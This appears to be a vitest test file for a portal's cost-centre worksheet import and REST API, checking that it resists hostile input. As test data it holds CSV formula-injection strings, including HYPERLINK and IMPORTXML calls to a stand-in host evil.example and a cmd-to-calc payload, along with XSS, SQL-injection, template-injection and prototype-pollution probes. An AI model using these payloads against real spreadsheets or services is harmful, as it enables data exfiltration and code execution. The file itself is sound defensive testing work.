import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { createSession } from '#server/modules/access/sessions.ts';
import { registry } from '#resources/registry.ts';
import type { Row } from '#tests/support/api.ts';
import { Factory, writableFields } from '#tests/support/factories.ts';
import { modelsWith, shapesWith } from '#tests/support/models.ts';
import { withPortal } from '#tests/support/portal.ts';
import { rawRequest } from '#tests/support/raw-http.ts';
import { storedContent } from '#tests/support/stored.ts';
import { addWorld, costCenter, importBody, importJson, refusalOf } from '#tests/support/worksheets.ts';

const portal = withPortal();
let factory: Factory;
beforeAll(async () => {
  factory = new Factory(portal.api, registry, portal.db);
  await addWorld(portal.api);
});

const sessionHeaders = async () => ({
  ...(await createSession(portal.db, { email: 'ada@example.com', name: null, roles: [] })),
});
const owner = { cloud_contact_email: 'amelia.hart@example.com' };
const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=IMPORTXML("http://evil.example","//a")',
  "'=quoted already",
  "''=twice",
];

describe('a formula in a worksheet', () => {
  it('is stored as text, guarded when it is written to a file, and the same text when that is read', async () => {
    const named = formulas.map((formula, at) => ({ identifier: `${formula} ${at}`, ...owner }));
    // As a worksheet of another program has it: nothing is guarded but what a person guarded.
    const plain = named.filter(({ identifier }) => !identifier.startsWith("'"));
    expect((await importJson(portal.api, { data: plain })).status).toBe(201);
    for (const { identifier } of named.slice(plain.length))
      await factory.create(registry.get('cost_centers'), { identifier });
    for (const { identifier } of named)
      expect((await costCenter(portal.api, identifier))['identifier']).toBe(identifier);

    const file = await portal.api.get('/cost_centers.csv');
    const cells = parse(file.text, { bom: true }).flat();
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r](?!\d+$)/);
    for (const { identifier } of named) expect(cells).toContain(`'${identifier}`);

    await portal.db.query('TRUNCATE cost_centers CASCADE');
    const again = await importJson(portal.api, importBody(new TextEncoder().encode(file.text)));
    expect(again.status).toBe(201);
    for (const { identifier } of named)
      expect((await costCenter(portal.api, identifier))['identifier']).toBe(identifier);
  });
});

/** The texts one after the other, in as few of them as have room for all. */
function together(texts: readonly string[], max: number): string[] {
  const joined = [''];
  for (const text of texts.filter(({ length }) => length < max)) {
    const last = joined.at(-1) ?? '';
    if (last.length + text.length < max) joined.splice(-1, 1, `${last}${text}`);
    else joined.push(text);
  }
  return joined;
}

describe('names that every object has', () => {
  const names = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__'];

  it.each(names)('such as %s are no column of a worksheet', async (name) => {
    const before = await storedContent(portal);
    const text = `{"data":[{"identifier":"x","cloud_contact_email":"amelia.hart@example.com",${JSON.stringify(name)}:"y"}]}`;
    const { status, body } = await portal.api.send('POST', '/cost_centers/import_json', text);
    expect([400, 422]).toContain(status);
    expect(body.error).toContain(`'${name}'`);
    expect(await storedContent(portal)).toEqual(before);
  });

  it.each(names)('such as %s are no parameter of a list, and no field to sort by', async (name) => {
    const before = Object.getOwnPropertyNames(Object.prototype);
    for (const { path } of shapesWith('read')) {
      const queries = [
        `${name}=1`,
        `${name}[admin]=1`,
        `by_${name}=1`,
        `by_${name}[admin]=1`,
        `sort=${name}`,
        `sort=-${name}`,
        `by_name.${name}.admin=1`,
        `${encodeURIComponent(name)}%5Badmin%5D=1`,
      ];
      for (const query of queries) {
        const { status, text } = await rawRequest(
          portal.url,
          'GET',
          `/api${path}?${query}`,
          await sessionHeaders(),
        );
        expect([status, JSON.parse(text).errors], `${path}?${query}`).toEqual([400, []]);
      }
      expect((await portal.api.get(path)).status).toBe(200);
    }
    expect(Object.getOwnPropertyNames(Object.prototype)).toEqual(before);
  });
});

describe.each(modelsWith('create', 'update', 'read', 'record'))(
  'text of any kind in $name',
  ({ model, path }) => {
    const texts = writableFields(model, 'create').flatMap(([name, field]) =>
      field.kind === 'text' && field.format === undefined ? [[name, field.max, field.code] as const] : [],
    );
    const bad = ['a\u0000b', '\u0000', 'a\ud800', '\udc00b', '\ud800\ud800'];
    const good = [
      'שלום עולם',
      'مرحبا',
      '👩🚀',
      'é and ü',
      '<script>alert(1)</script>',
      '"><img src=x onerror=alert(1)>',
      "Robert'); DROP TABLE x;--",
      '${7*7}{{7*7}}%s%n',
      'C:\\new\\table',
      'a\u2028b\u2029c',
    ];
    /** What nobody sees, and what is stored of it where it is no code. */
    const unseen = [
      ['\u202eevil\u202c', 'evil'],
      ['\u200ffirst\u200e', 'first'],
      ['👩\u200d👩\u200d👧', '👩👩👧'],
      ['\u200bjoined\u200d', 'joined'],
      ['\ufeffmark', 'mark'],
      ['so\u00adft', 'soft'],
    ] as const;

    it('is kept exactly, or refused where it cannot be stored', async () => {
      const megabytes = ['x'.repeat(1_000_000), '\u202e'.repeat(300_000)];
      for (const [at, [name, max]] of texts.entries()) {
        for (const text of together(good, max - 6)) {
          const wanted = `${factory.next()}${text}.`;
          const created = await factory.create(model, { [name]: wanted });
          expect(created[name]).toBe(wanted);
          expect((await portal.api.get(`${path}/${created.id}`)).body.data[name]).toBe(wanted);
          const found = await portal.api.get<Row[]>(`${path}?by_${name}=${encodeURIComponent(wanted)}`);
          expect(
            found.body.data.map(({ id }) => id),
            `${name} ${text}`,
          ).toEqual([created.id]);
        }
        const { id } = await factory.create(model);
        const before = await storedContent(portal);
        for (const text of [...bad, 'x'.repeat(max + 1), ...(at === 0 ? megabytes : [])]) {
          const answers = [
            await portal.api.post(path, { ...(await factory.input(model)), [name]: text }),
            await portal.api.put(`${path}/${id}`, { [name]: text }),
          ];
          for (const { status, body } of answers)
            expect([status, body.errors.map(({ field }) => field)]).toEqual([422, [name]]);
        }
        expect(await storedContent(portal)).toEqual(before);
      }
    });

    it('has nothing in it that nobody sees, and is composed', async () => {
      for (const [name, , isCode] of texts) {
        const kept = `${factory.next()}`;
        const composed = await factory.create(model, { [name]: `${kept}u\u0308` });
        expect(composed[name]).toBe(`${kept}\u00fc`);
        for (const [text, stored] of isCode ? [] : unseen) {
          const begin = factory.next();
          const created = await factory.create(model, { [name]: `${begin}${text}.` });
          expect(created[name]).toBe(`${begin}${stored}.`);
        }
        for (const [text] of isCode ? unseen : []) {
          const body = { ...(await factory.input(model)), [name]: `x${text}.` };
          const { status, body: answer } = await portal.api.post(path, body);
          expect([status, answer.errors.map(({ field }) => field)]).toEqual([422, [name]]);
        }
      }
    });

    it.each(['%00', '%ED%A0%80', 'x'.repeat(501), '%FF', '%u0000'])(
      'is taken or refused with 400 as a search: %s',
      async (text) => {
        for (const query of [`q=${text}`, `sort=${text}`, ...texts.map(([name]) => `by_${name}=${text}`)]) {
          const answer = await fetch(`${portal.url}/api${path}?${query}`, {
            headers: await sessionHeaders(),
          });
          expect([200, 400], query).toContain(answer.status);
        }
      },
    );
  },
);

describe('a worksheet', () => {
  it.each<[string, Record<string, unknown>]>([
    ['a NUL', { identifier: 'a\u0000b' }],
    ['half a surrogate pair', { identifier: 'a\ud800' }],
    ['a cell of a megabyte', { identifier: 'x'.repeat(1_000_000) }],
    ['a megabyte for a date', { identifier: 'x', active_at: '9'.repeat(1_000_000) }],
    ['a megabyte for a company', { identifier: 'x', companies_code: '9'.repeat(1_000_000) }],
    ['a NUL for a company', { identifier: 'x', companies_code: 'a\u0000b' }],
    ['half a pair for a company', { identifier: 'x', companies_code: '\ud800' }],
    ['a header of control characters', { identifier: 'x', '\u0000\u0001': 'z' }],
    ['a number that no text can be', { identifier: 1e300 }],
  ])('with %s is refused in a few words, and nothing is stored', async (_what, row) => {
    const before = await storedContent(portal);
    const refused = await refusalOf(portal.api, { data: [{ ...owner, ...row }] });
    expect(refused.error.length).toBeLessThan(2000);
    expect(JSON.stringify(refused).length).toBeLessThan(5000);
    expect(await storedContent(portal)).toEqual(before);
    expect(portal.log()).not.toMatch(/(?:x|y|9){1000}/);
  });

  it.each([
    ['', { identifier: '' }],
    ['identifier', { identifier: 'a\u0000b' }],
    ['companies_code', { identifier: 'x', companies_code: 'a\u0000b' }],
    ['companies_code', { identifier: 'x', companies_code: '9'.repeat(1_000_000) }],
    ['department_name', { identifier: 'x', department_name: '\ud800' }],
    ['active_at', { identifier: 'x', active_at: '2026-\u0000' }],
  ])('names the row and the column of a cell that cannot be stored: %s', async (column, row) => {
    const data = [
      { ...owner, identifier: 'good' },
      { ...owner, ...row },
    ];
    const { errors } = await refusalOf(portal.api, { data });
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({ row: 3, column: column || 'identifier' });
  });

  it('with a header of a megabyte is refused', async () => {
    const data = [{ ...owner, identifier: 'x', ['y'.repeat(1_000_000)]: 'z' }];
    const { status, text } = await importJson(portal.api, { data });
    expect([status, text.length < 300]).toEqual([413, true]);
  });

  it('whose known column has a long header answers hundreds of problems in a few words', async () => {
    const header = `active_at${' '.repeat(9000)}`;
    const data = Array.from({ length: 40 }, (_, at) => ({ identifier: `n${at}`, [header]: 'never' }));
    const refused = await refusalOf(portal.api, { data });
    expect(refused.error_total).toBeGreaterThanOrEqual(40);
    expect(JSON.stringify(refused).length).toBeLessThan(100_000);
  });

  it('keeps HTML and line separators as they are', async () => {
    const identifier = 'x<script>alert(1)</script>\u2028.';
    expect((await importJson(portal.api, { data: [{ identifier, ...owner }] })).status).toBe(201);
    expect((await costCenter(portal.api, identifier))['identifier']).toBe(identifier);
  });
});
